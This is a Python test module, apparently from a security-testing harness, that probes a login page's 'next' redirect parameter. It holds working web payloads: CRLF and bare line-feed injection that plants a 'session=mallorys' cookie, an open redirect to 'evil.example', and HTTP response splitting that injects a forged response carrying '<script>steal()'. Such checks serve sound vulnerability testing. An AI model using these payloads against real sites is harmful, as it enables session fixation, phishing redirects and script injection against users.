"""Attacks by a link to the login page, which the victim is made to follow."""

from urllib.parse import urljoin, urlsplit

from prover import Target

from .stage import Stage


def has_cookie(target: Target, stage: Stage, query: str) -> bool:
    headers = stage.headers(target.redirect(query))
    print(*(f"{name}: {value}" for name, value in headers), sep="\n")
    return ("Set-Cookie", "session=mallorys") in headers


def attack_second_header(target: Target, stage: Stage) -> bool:
    """End the line, and give the victim a session of one's own."""
    return has_cookie(target, stage, "next=/%0d%0aSet-Cookie:%20session=mallorys")


def attack_line_feed_alone(target: Target, stage: Stage) -> bool:
    """Leave the carriage return out; whoever reads headers must bear with that."""
    return has_cookie(target, stage, "next=/%0aSet-Cookie:%20session=mallorys")


def attack_other_host(target: Target, stage: Stage) -> bool:
    """Begin with two slashes: what looks like a page is then another host."""
    location = dict(stage.headers(target.redirect("next=//evil.example/login")))
    address = urljoin("https://shop.example/login", location["Location"])
    print("the browser goes to", address)
    return urlsplit(address).hostname == "evil.example"


def attack_second_answer(target: Target, stage: Stage) -> bool:
    """End the head, and write the next answer on this connection oneself."""
    split = (
        "next=/%0aContent-Length:%200%0a%0a"
        "HTTP/1.1%20200%20OK%0aContent-Type:%20text/html%0a%0a%3Cscript%3Esteal()"
    )
    rest = stage.rest(target.redirect(split))
    print(rest.decode().splitlines()[:4])
    return rest.startswith(b"HTTP/1.1 200 OK") and b"<script>steal()" in rest
